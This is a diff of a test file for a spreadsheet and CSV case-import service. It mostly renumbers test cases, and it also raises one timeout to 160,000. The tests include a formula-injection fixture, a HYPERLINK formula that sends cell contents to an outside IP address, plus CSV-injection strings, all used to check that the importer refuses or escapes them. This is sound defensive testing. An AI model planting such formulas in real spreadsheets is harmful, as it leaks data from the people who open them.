@@ -106,9 +106,9 @@ describe(`a workbook of ${rowCount} cases with 1 % bad rows`, () => {
 
 describe('all or nothing', () => {
   test('one bad row, and nothing is written; mended, everything is', async () => {
-    const rows = range(20_001, 20_061).map((number) => caseRow(number))
+    const rows = range(120_001, 120_061).map((number) => caseRow(number))
     const before = await count('service_case')
-    const bad = await imports.run('CASES/ALL_OR_NOTHING', toCsv([...rows, caseRow(20_099, { 工号: '9999' })]), {
+    const bad = await imports.run('CASES/ALL_OR_NOTHING', toCsv([...rows, caseRow(120_099, { 工号: '9999' })]), {
       type: csv,
     })
     expect(bad).toMatchObject({ state: 'DONE', rowsKept: 0, rowsBad: 1, rowsRead: 61 })
@@ -160,8 +160,8 @@ describe('the rows of one case', () => {
   test('stand together and are one report; apart or different they are refused', async () => {
     const second = { 第几次服务: '2', 服务名称: '签收' }
     const rows = [
-      caseRow(30_001),
-      caseRow(30_001, {
+      caseRow(130_001),
+      caseRow(130_001, {
         ...second,
         事项编码: '',
         办件类型: '',
@@ -171,12 +171,12 @@ describe('the rows of one case', () => {
         行政区划代码: '',
         受理时间: '',
       }),
-      caseRow(30_002),
-      caseRow(30_002, { ...second, 办件类型: '即办件' }),
-      caseRow(30_003),
-      caseRow(30_001, { 第几次服务: '3' }),
-      caseRow(30_004),
-      caseRow(30_004),
+      caseRow(130_002),
+      caseRow(130_002, { ...second, 办件类型: '即办件' }),
+      caseRow(130_003),
+      caseRow(130_001, { 第几次服务: '3' }),
+      caseRow(130_004),
+      caseRow(130_004),
     ]
     const seen = await imports.run('CASES/GOOD_ROWS', toCsv(rows), { type: csv })
     expect(seen).toMatchObject({ rowsKept: 3, rowsBad: 5 })
@@ -224,7 +224,7 @@ describe('files as clerks and their programs write them', () => {
   })
 
   test('shared texts, rich text, numbers for texts, dates as numbers, prefixes', async () => {
-    const bent = caseRow(40_001)
+    const bent = caseRow(140_001)
     const at = (head: string) => caseHeads.indexOf(head)
     bent[at('办件编号')] = '<c t="s"><v>0</v></c>'
     bent[at('工号')] = '<c><v>1001</v></c>'
@@ -240,7 +240,7 @@ describe('files as clerks and their programs write them', () => {
   })
 
   test('an identity number that a spreadsheet has rounded is refused, not guessed', async () => {
-    const bent = caseRow(40_002)
+    const bent = caseRow(140_002)
     bent[caseHeads.indexOf('申请人姓名或名称')] = '<c><v>1.10105194912310E+17</v></c>'
     const seen = await imports.run('CASES/GOOD_ROWS', await rawWorkbook(sheetXml([bent])))
     expect(seen.badRows[0]?.problems).toEqual([{ code: 'CELL_NUMBER_ROUNDED', column: '申请人姓名或名称' }])
@@ -275,16 +275,16 @@ describe('files as clerks and their programs write them', () => {
 
 describe('what would be run, followed or blown up', () => {
   test('a formula is refused in its cell, whatever value stands beside it', async () => {
-    const bent = caseRow(50_001)
+    const bent = caseRow(150_001)
     bent[caseHeads.indexOf('申请人姓名或名称')] =
       '<c t="str"><f>HYPERLINK("http://198.51.100.1/"&amp;A2)</f><v>甄公式</v></c>'
-    const seen = await imports.run('CASES/GOOD_ROWS', await rawWorkbook(sheetXml([bent, caseRow(50_002)])))
+    const seen = await imports.run('CASES/GOOD_ROWS', await rawWorkbook(sheetXml([bent, caseRow(150_002)])))
     expect(seen).toMatchObject({ rowsKept: 1, rowsBad: 1 })
     expect(seen.badRows[0]?.problems).toEqual([{ code: 'CELL_IS_FORMULA', column: '申请人姓名或名称' }])
   })
 
   test('a text that a spreadsheet would take for a formula goes out led in by an apostrophe, and comes in again without it', async () => {
-    const rows = [caseRow(50_010, { 申请人姓名或名称: '=1+1', 申请人手机号: '+8615400000001', 窗口编号: 'NONE' })]
+    const rows = [caseRow(150_010, { 申请人姓名或名称: '=1+1', 申请人手机号: '+8615400000001', 窗口编号: 'NONE' })]
     const seen = await imports.run('CASES/GOOD_ROWS', toCsv(rows), { type: csv })
     const text = (await imports.badRows(seen.id, 'CSV')).bytes.toString('utf8')
     expect(text).toContain(",'=1+1,")
@@ -298,7 +298,7 @@ describe('what would be run, followed or blown up', () => {
   test.each(['＝1+1', ' =1+1', '＠SUM(1)', '\n-1'])('also %j, in full width or behind spaces', async (name) => {
     const seen = await imports.run(
       'CASES/GOOD_ROWS',
-      toCsv([caseRow(50_020, { 申请人姓名或名称: name, 窗口编号: 'NONE' })]),
+      toCsv([caseRow(150_020, { 申请人姓名或名称: name, 窗口编号: 'NONE' })]),
       { type: csv },
     )
     const file = (await imports.badRows(seen.id, 'CSV')).bytes
@@ -385,7 +385,7 @@ describe('what would be run, followed or blown up', () => {
 describe('who hands a file in', () => {
   test('needs the scope of importing and of what the rows write', async () => {
     const calls = callsOf(platform)
-    const file = toCsv([caseRow(60_001)])
+    const file = toCsv([caseRow(160_001)])
     const withScopes = async (scopes: readonly string[]) =>
       importsOf(platform, (await calls.apiKey({ scopes: scopes as never })).key).start('CASES/GOOD_ROWS', file, {
         type: csv,
@@ -402,14 +402,14 @@ describe('who hands a file in', () => {
       scopes: ['imports:run', 'cases:write'] as never,
       hallCode: 'YP-TRIAL-01',
     })
-    const seen = await importsOf(platform, key).run('CASES/GOOD_ROWS', toCsv([caseRow(60_002)]), { type: csv })
+    const seen = await importsOf(platform, key).run('CASES/GOOD_ROWS', toCsv([caseRow(160_002)]), { type: csv })
     expect(seen).toMatchObject({ rowsKept: 1 })
     expect((await imports.see(seen.id)).status).toBe(404)
     expect((await imports.badRows(seen.id, 'CSV')).status).toBe(404)
   })
 
   test('a repeated upload is the same import; another file under its key is refused', async () => {
-    const file = toCsv([caseRow(60_003)])
+    const file = toCsv([caseRow(160_003)])
     const first = await imports.start('CASES/GOOD_ROWS', file, { type: csv, key: 'the-same-upload' })
     const second = await imports.start('CASES/GOOD_ROWS', file, { type: csv, key: 'the-same-upload' })
     expect([first.status, second.status, second.body.id]).toEqual([202, 200, first.body.id])
@@ -455,7 +455,7 @@ test('an import that was interrupted goes on where it was, and makes no double',
     publicUrl: (port) => `http://127.0.0.1:${port}`,
   })
   const second = importsOf({ ...first, base: `http://127.0.0.1:${again.port}` }, key)
-  await expect.poll(async () => (await second.see(body.id)).body.state, { timeout: 60_000 }).toBe('DONE')
+  await expect.poll(async () => (await second.see(body.id)).body.state, { timeout: 160_000 }).toBe('DONE')
   expect((await second.see(body.id)).body).toMatchObject({ rowsRead: 600, rowsKept: 600, rowsBad: 0, timesResumed: 1 })
   const [cases] = await first.database.query<{ n: number }>(
     `select count(*)::int as n from service_case_revision r join api_key k on k.id = r.api_key_id where k.name = '测试业务系统'`,
@@ -470,7 +470,7 @@ describe('what is kept of a file', () => {
     const secret = '贾明文不可见'
     const seen = await imports.run(
       'CASES/GOOD_ROWS',
-      toCsv([caseRow(70_001, { 申请人姓名或名称: secret, 窗口编号: 'NONE' })]),
+      toCsv([caseRow(170_001, { 申请人姓名或名称: secret, 窗口编号: 'NONE' })]),
       { type: csv },
     )
     expect(await count('import_chunk')).toBe(0)
